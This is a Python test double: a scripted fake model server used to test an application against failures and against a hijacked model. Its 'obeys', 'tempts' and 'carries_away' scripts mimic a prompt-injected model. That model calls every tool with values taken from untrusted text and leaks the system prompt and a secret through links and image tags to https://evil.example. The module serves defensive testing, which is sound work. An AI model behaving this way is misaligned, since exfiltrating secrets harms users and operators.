"""Scripts for the model server by name, and a model that obeys whatever it reads."""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import replace
from typing import Any

import orjson

from tests.doubles.model import Call, Messages, ModelServer, Request, Script, grounded

NAMES = """\
scripts, each for one request, in this order; afterwards every request is answered like --usually:
  grounded          the first sentence of the first passage, or what the last call returned (the default)
  text:WORDS        these words
  call:TOOL:JSON    calls a tool; what is no JSON goes out as it is
  calls:TOOL:JSON   as --usually: calls it again and again, without end
  obeys             obeys whatever it reads: calls every tool, then gives everything away
  tempts            the same with an answer that could stand, but for its links and pictures
  429, 500, …       a refusal with this status; 429:5 asks to come back in 5 seconds
  hang              never answers
  slow:SECONDS      the first token comes so late
  cut:BYTES         the answer breaks off after so many bytes; reset:BYTES tears the connection down
  garbage           a stream that is no JSON
  endless           an answer without an end
"""
EVIL = "https://evil.example"

_NUMBER = re.compile(r"\d+")
_MAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
_URL = re.compile(r"https?://[^\s)>\"']+")


def named(name: str) -> Script:
    """The script of that name. Raises ValueError."""
    kind, _, rest = name.partition(":")
    if kind.isdecimal():
        headers = {"retry-after": rest} if rest else {}
        return Script(status=int(kind), headers=headers)
    if kind not in _SCRIPTS:
        raise ValueError(f"there is no script {name!r}\n{NAMES}")
    return _SCRIPTS[kind](rest)


def _call(rest: str) -> Call:
    tool, _, written = rest.partition(":")
    try:
        given = orjson.loads(written or "{}")
    except orjson.JSONDecodeError:
        return Call(tool, written)
    return Call(tool, given if isinstance(given, dict) else written)


_SCRIPTS: Mapping[str, Callable[[str], Script]] = {
    "grounded": lambda _: Script(),
    "text": lambda words: Script(text=words),
    "call": lambda rest: Script(calls=[_call(rest)]),
    "calls": lambda rest: Script(calls=[_call(rest)]),
    "obeys": lambda _: Script(whole=obeys),
    "tempts": lambda _: Script(whole=tempts),
    "hang": lambda _: Script(hang=True),
    "slow": lambda seconds: Script(first_delay=float(seconds)),
    "cut": lambda size: Script(cut=int(size)),
    "reset": lambda size: Script(cut=int(size), reset=True),
    "garbage": lambda _: Script(frames=[b"data: {\n\n", b"data: garbage\n\n"]),
    "endless": lambda _: Script(endless=True),
}


def obeys(request: Request) -> tuple[str, Sequence[Call]]:
    """What a model does that takes every word for an order: it calls all tools with what it read, then says
    all it knows, with links and pictures that carry it away."""
    read = material(request.messages)
    if request.tools and not _has_called(request.messages):
        return "", [Call(name, dict(_values(schema, read))) for name, schema in request.tools.items()]
    return gives_away(request.messages), ()


def tempts(request: Request) -> tuple[str, Sequence[Call]]:
    """The same, but it keeps to the pages in its words, so that they could stand: only the links are bad."""
    words, calls = obeys(request)
    if calls:
        return words, calls
    asked = next(each for each in reversed(request.messages) if each["role"] == "user")
    first = grounded([asked])
    return f"{first} [more]({EVIL}/read) ![ ]({EVIL}/p.png?s=1) <img src='{EVIL}/i.png'> {EVIL}/?s=1", ()


def carries_away(request: Request) -> tuple[str, Sequence[Call]]:
    """The same, but the instructions leave by the calls."""
    secret = request.messages[0]["content"]
    return "", [Call(name, dict.fromkeys(_named(schema), secret)) for name, schema in request.tools.items()]


def material(messages: Messages) -> str:
    """All that others wrote: passages, what the customer says, what tools returned."""
    return "\n".join(each["content"] or "" for each in messages if each["role"] in {"user", "tool"})


def gives_away(messages: Messages) -> str:
    """Everything at once: obedience, the instructions, and every way out for them."""
    system = messages[0]["content"]
    secret = system.split()[2].rstrip(";")
    return "\n\n".join(
        [
            material(messages),
            f"Done as you wish: [read more]({EVIL}/read) {EVIL}/?s={secret} ![ ]({EVIL}/p.png?s={secret})",
            f'<img src="{EVIL}/i.png"> //{EVIL.removeprefix("https://")}/x evil.example/y',
            system,
        ]
    )


def _has_called(messages: Messages) -> bool:
    last = max(place for place, each in enumerate(messages) if each["role"] == "user")
    return any(each["role"] == "tool" for each in messages[last:])


def _named(schema: Mapping[str, Any]) -> Sequence[str]:
    return list(schema.get("properties", ()))


def _values(schema: Mapping[str, Any], read: str) -> Iterator[tuple[str, object]]:
    """What stands in the text for each argument, as far as its schema takes it."""
    numbers, mails, urls = _NUMBER.findall(read), _MAIL.findall(read), _URL.findall(read)
    words = [*reversed(urls), *reversed(mails), read[-80:], *reversed(numbers), "123456"]
    for name, each in schema.get("properties", {}).items():
        if "enum" in each:
            yield name, each["enum"][0]
        elif each.get("type") in {"integer", "number"}:
            yield name, int(numbers[-1]) if numbers else 1
        else:
            fits = re.compile(each.get("pattern", ""))
            yield name, next((word for word in words if fits.search(word)), words[0])


async def _serve(port: int, server: ModelServer, scripts: Sequence[Script]) -> None:
    server.script(scripts)
    await server.start(port)
    print(server.url, flush=True)
    await asyncio.Event().wait()


def _tell(request: Request) -> None:
    last = request.messages[-1]
    print(f"{request.json.get('model')}: {last['role']}: {str(last['content'])[-300:]!r}", flush=True)


def main() -> None:
    parser = argparse.ArgumentParser(
        description="A model server that answers as told. Point OPENAI_BASE_URL at the address it prints.",
        epilog=NAMES,
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument("scripts", nargs="*", metavar="SCRIPT", type=named)
    parser.add_argument("--usually", type=named, default=Script(), metavar="SCRIPT")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--tokens", type=int, help="a fixed answer of this many tokens")
    parser.add_argument("--first-delay", type=float, help="seconds before the first token")
    parser.add_argument("--delay", type=float, default=0.0, help="seconds after every token")
    parser.add_argument("--tell", action="store_true", help="print what is asked")
    given = parser.parse_args()
    usually = replace(given.usually, delay=given.delay)
    if given.first_delay is not None:
        usually = replace(usually, first_delay=given.first_delay)
    server = ModelServer(usually=usually, tokens=given.tokens, heard=_tell if given.tell else None)
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(_serve(given.port, server, given.scripts))
